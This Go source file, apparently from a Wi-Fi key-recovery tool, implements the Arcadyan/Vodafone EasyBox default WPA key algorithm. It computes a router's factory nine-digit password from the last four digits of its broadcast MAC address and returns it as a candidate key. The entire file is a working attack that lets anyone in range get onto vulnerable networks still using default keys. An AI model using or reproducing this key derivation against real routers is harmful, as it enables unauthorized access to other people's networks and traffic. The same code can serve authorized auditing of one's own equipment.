package keygen

import (
	"fmt"
	"strings"

	"github.com/wifibear/keybear/pkg/wifi"
)

// easyboxKey implements the Arcadyan (Vodafone EasyBox, Arcor) default WPA
// key: nine hex digits mixed from the last four MAC digits (M9..M12) and
// the five decimal digits of their value (S6..S10).
func easyboxKey(mac wifi.MAC) (string, error) {
	tail := mac.Hex()[8:]

	m, err := nibbles(tail)
	if err != nil {
		return "", err
	}
	var value int
	for _, n := range m {
		value = value<<4 | n
	}
	dec := fmt.Sprintf("%05d", value)
	s := make([]int, 5)
	for i := range s {
		s[i] = int(dec[i] - '0')
	}

	s7, s8, s9, s10 := s[1], s[2], s[3], s[4]
	m9, m10, m11, m12 := m[0], m[1], m[2], m[3]

	k1 := (s7 + s8 + m11 + m12) & 0x0f
	k2 := (m9 + m10 + s9 + s10) & 0x0f

	digits := []int{
		k1 ^ s10, k2 ^ m10, m11 ^ s10,
		k1 ^ s9, k2 ^ m11, m12 ^ s9,
		k1 ^ s8, k2 ^ m12, k1 ^ k2,
	}

	var sb strings.Builder
	for _, d := range digits {
		fmt.Fprintf(&sb, "%X", d)
	}
	return sb.String(), nil
}

func easyboxDerive(id wifi.Identity) ([]Candidate, error) {
	key, err := easyboxKey(id.BSSID())
	if err != nil {
		return nil, err
	}
	return []Candidate{candidate(key, "")}, nil
}
